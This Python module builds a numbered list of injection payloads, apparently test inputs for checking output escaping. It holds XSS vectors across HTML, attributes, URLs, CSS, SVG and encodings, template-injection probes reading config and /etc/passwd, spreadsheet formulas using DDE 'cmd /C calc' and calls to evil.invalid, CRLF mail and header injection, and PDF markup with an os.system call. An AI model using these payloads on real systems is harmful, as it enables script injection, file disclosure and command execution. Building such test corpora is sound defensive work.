"""What people might type who want something to run: our own list, each with a number of its own in it.

``RUN`` in a line stands for ``alert(<number>)``; ``zx<number>z`` is what is looked for where it is shown."""

from itertools import product

RUN = "RUN"
CLOSERS = (
    "", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</style>", "</option></select>", "</a>",
    "`>", '"></svg>', "</template>",
)  # fmt: skip
"""What would end the place in which a text stands."""
VECTORS = (
    "<script>RUN</script>",
    "<img src=x onerror=RUN>",
    "<svg onload=RUN>",
    "<details open ontoggle=RUN>",
    "<input autofocus onfocus=RUN>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<a href=javascript:RUN>x</a>",
    "<style>@import'//evil.invalid/x'</style>",
    "<base href=//evil.invalid/>",
)
"""What would then run, load or lead away."""
ATTRIBUTES = (
    '" autofocus onfocus=RUN x="', "' autofocus onfocus=RUN x='", '" onpointerover="RUN', "' onmouseover='RUN",
    '"onanimationstart=RUN style="animation:x', '" style="background:url(//evil.invalid/c)', "x onerror=RUN",
    '" srcdoc="<script>parent.RUN</script>', '" formaction="javascript:RUN', '"/onload=RUN/x="', "` onerror=RUN `",
    '"\tonfocus=RUN\tautofocus="', '"\nonfocus=RUN\nautofocus="', '"\x0confocus=RUN\x0cautofocus="', '" hx-get="//evil.invalid/',
    '" hx-on:load="RUN', '" data-action="x->y#RUN', '" id="csrf_token" name="csrf_token',
    '" accesskey="x" onclick="RUN" x="', '" contenteditable autofocus onfocus="RUN',
)  # fmt: skip
ADDRESSES = (
    "javascript:RUN", "JaVaScRiPt:RUN", " javascript:RUN", "java\tscript:RUN", "java\nscript:RUN", "\x01javascript:RUN",
    "javascript&colon;RUN", "&#106;avascript:RUN", "&#x6A&#x61vascript:RUN", "javascript://%0aRUN", "vbscript:RUN",
    "data:text/html,<script>RUN</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>", "//evil.invalid/x", "\\\\evil.invalid\\x",
    "https:evil.invalid", "https://evil.invalid/?<script>RUN</script>", "blob:https://evil.invalid/1", "file:///etc/passwd",
    "feed:javascript:RUN", "view-source:javascript:RUN", "mailto:a@evil.invalid?subject=x&body=<script>RUN</script>",
    "https://user:word@evil.invalid", "http://evil.invalid\r\nSet-Cookie: a=b",
)  # fmt: skip
STRINGS = (
    "';RUN;//", '";RUN;//', "\\';RUN;//", '\\";RUN;//', "`;RUN;//", "${RUN}", "'-RUN-'", '"-RUN-"', "</script><script>RUN//",
    "\u2028RUN\u2029", "*/RUN/*", "<!--<script>", "<!--\n<script>RUN", "\\u003cscript\\u003eRUN", "\\x3cscript>RUN", '"}];RUN;[{"',
    "');RUN;('", "constructor.constructor('RUN')()", '{"__proto__":{"x":"RUN"}}', "__proto__",
)  # fmt: skip
STYLES = (
    "}</style><script>RUN</script>", "color:red;background:url(javascript:RUN)", "expression(RUN)", "x{background:url(//evil.invalid/)}",
    "@import '//evil.invalid/x.css';", "</style><img src=x onerror=RUN>", "behavior:url(//evil.invalid/x.htc)", "\\65xpression(RUN)",
)  # fmt: skip
SVG = (
    "<svg><script>RUN</script></svg>", "<svg><script href=data:,RUN /></svg>", "<svg><a xlink:href='javascript:RUN'><text y=20>x",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to=RUN>",
    "<svg><foreignObject><iframe src=javascript:RUN>", "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN/>#x'>",
    "<math><maction actiontype=statusline xlink:href=javascript:RUN>x", "<svg><image href=x onerror=RUN>", "<svg/onload=RUN//",
)  # fmt: skip
TEMPLATES = (
    "{{1337*1337}}", "{{ config }}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{% raise %}", "{% for x in range(9) %}x{% endfor %}",
    "{{constructor.constructor('RUN')()}}", "${1337*1337}", "#{1337*1337}", "<%= 1337*1337 %>", "{{=1337*1337}}", "[[${1337*1337}]]",
    "%(count)d %(name)s %s %d %", "{0} {name} {0.__class__} {", "{# no end", "{{'zx'|safe}}<script>RUN</script>", "$(1337)`id`",
    "%%(x)s %n", "\\N{BULLET} \\0 \\x", "{% include '/etc/passwd' %}", "{{request.environ}}",
)  # fmt: skip
MUTATIONS = (
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">", "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<svg></p><style><a id=\"</style><img src=x onerror=RUN>\">", "<form><form><input name=innerHTML><img src=x onerror=RUN>",
    "<template><script>RUN</script></template>", "<xmp><p title=\"</xmp><img src=x onerror=RUN>\">", "<listing>&lt;img src=x onerror=RUN&gt;",
    "<p id=\"&quot;><img src=x onerror=RUN>\">", "<image src=x onerror=RUN>", "<isindex type=image src=x onerror=RUN>",
    "<table><tr><td><svg><desc><b><script>RUN</script>", "<select><style></select><img src=x onerror=RUN></style>",
    "<a name=body></a><form id=document><input name=cookie>", "<plaintext>", "<frameset onload=RUN>", "<object data=javascript:RUN>",
    "<embed src=javascript:RUN>", "<meta http-equiv=refresh content=\"0;url=//evil.invalid/\">", "<link rel=stylesheet href=//evil.invalid/x>",
    "<marquee onstart=RUN>", "<video><source onerror=RUN>", "<audio src=x onerror=RUN>", "<body onpageshow=RUN>",
    "<dialog open onfocus=RUN tabindex=0 autofocus>", "<button popovertarget=x>y</button><p popover id=x onbeforetoggle=RUN>",
)  # fmt: skip
ENCODED = (
    "&lt;script&gt;RUN&lt;/script&gt;", "&amp;lt;img src=x onerror=RUN&amp;gt;", "%3Cscript%3ERUN%3C/script%3E", "%253Cscript%253ERUN",
    "&#60;script&#62;RUN&#60;/script&#62;", "&#x3c;img src=x onerror=RUN&#x3e;", "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "\u02ba\u02c3<b onclick=RUN>", "+ADw-script+AD4-RUN+ADw-/script+AD4-", "<scr\x00ipt>RUN</scr\x00ipt>", "<scr<script>ipt>RUN</scr</script>ipt>",
    "<ScRiPt >RUN</sCrIpT >", "<script/x>RUN</script\n>", "<<script>RUN//<</script>", "<img/src=x\nonerror\n=\nRUN>", "<img src=x onerror=&#97;lert(1)>",
    "\u2039script\u203aRUN", "<\u017fcript>RUN</\u017fcript>", "&NewLine;<img src=x onerror=RUN>", "\ufeff<script>RUN</script>",
)  # fmt: skip
INVISIBLE = (
    "\u202e<script>RUN</script>\u202c", "\u200b<img src=x onerror=RUN>\u200b", "<\u200bscript>RUN", "\u2066<svg onload=RUN>\u2069", "\u061c<b onfocus=RUN>",
    "\u00ad<script>RUN</script>", "a\u0300\u0301\u0302" * 9 + "<script>RUN</script>", "\U000e0041<script>RUN</script>", "\ufff9<i>\ufffa RUN \ufffb",
    "\u202dfdp.exe<svg onload=RUN>",
)  # fmt: skip
POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=RUN )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=RUN//>",
    "'\"><img src=x onerror=RUN>{{1337*1337}}<!--", "\"'--></style></script><svg onload=RUN>`", "1;RUN//\"';</script><script>RUN</script>",
    "</title></textarea></noscript></template><img src=x onerror=RUN>", "--><!--\"'><b onmouseover=RUN autofocus>",
)  # fmt: skip
PAPER = (
    '<a href="https://evil.invalid/">x</a>', '<a href="javascript:RUN">x</a>', '<link href="https://evil.invalid/">x</link>',
    '<img src="file:///etc/passwd" width="9" height="9"/>', '<img src="https://evil.invalid/x.png"/>', '<font name="Courier" size="90">x</font>',
    '<para><b>x</para>', '<onDraw name="RUN" label="x"/>', '<seq id="x"/>', '<unichar code="65"/>', '<font color="RUN">x',
    '<a name="input-a"/>', "<font color=\"[__import__('os').system('true')]\">x</font>", "<br/><br/>", "</b></i></para>", "<evalString>RUN</evalString>",
    "/URI (https://evil.invalid/) /S /JavaScript /JS (RUN)", ") Tj ET Q /Launch (", "endstream endobj %%EOF", "<< /Type /EmbeddedFile >>",
)  # fmt: skip
SHEETS = (
    "=HYPERLINK(\"https://evil.invalid/\";\"RUN\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1",
    "\uff0d1", "\uff20SUM(1)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"https://evil.invalid/\")", " =1+1", "'=1+1", "\u3000=1+1",
)  # fmt: skip
CALENDAR = ("x\r\nATTACH:https://evil.invalid/x", "x\nEND:VEVENT\nBEGIN:VALARM", "x\rURL:https://evil.invalid/", "x;VALUE=URI:https://evil.invalid/",
            "x\r\nBcc: thief@evil.invalid\r\n\r\n<script>RUN</script>", "x\u2028Subject: RUN")  # fmt: skip
KINDS: dict[str, tuple[str, ...]] = {
    "HTML": tuple(closer + vector for closer, vector in product(CLOSERS, VECTORS)), "attribute": ATTRIBUTES, "address": ADDRESSES,
    "JavaScript": STRINGS, "CSS": STYLES, "SVG": SVG, "template": TEMPLATES, "mutation": MUTATIONS, "encoded": ENCODED,
    "invisible": INVISIBLE, "polyglot": POLYGLOTS, "paper": PAPER, "sheet": SHEETS, "calendar and mail": CALENDAR,
}  # fmt: skip


def _numbered() -> tuple[str, ...]:
    every = [line for lines in KINDS.values() for line in lines]
    return tuple(f"{line.replace(RUN, f'alert({number})')} zx{number}z" for number, line in enumerate(every))


PAYLOADS = _numbered()
"""All of them; the number is the place in this list."""
